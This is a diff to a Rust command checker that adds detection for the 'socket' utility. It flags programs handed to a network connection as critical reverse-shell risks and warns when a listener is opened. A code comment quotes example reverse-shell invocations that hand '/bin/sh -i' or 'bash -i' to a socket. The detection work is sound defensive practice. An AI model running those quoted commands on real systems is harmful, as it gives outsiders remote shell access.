@@ -106,6 +106,29 @@ pub fn check(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
         }
         return;
     }
+    // `socket -svp '/bin/sh -i' 443`, `socket -qvp 'bash -i' HOST PORT`: `-p PROG` runs
+    // PROG with its stdin and stdout on the connection.
+    if name == "socket" {
+        let program =
+            argv.iter().enumerate().skip(1).any(|(i, a)| {
+                a.starts_with('-') && !a.starts_with("--") && a.ends_with('p') && argv.get(i + 1).is_some()
+            });
+        if program {
+            out.push(block(
+                n,
+                REVERSE_SHELL,
+                Risk::Critical,
+                cmd,
+                "socket hands a program (a shell) to the network",
+            ));
+        } else if argv
+            .iter()
+            .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('s'))
+        {
+            out.push(warn(n, LISTENER, cmd, "opens a network listener"));
+        }
+        return;
+    }
     if name == "socat" {
         let exec = argv.iter().any(|a| {
             let u = a.to_ascii_uppercase();
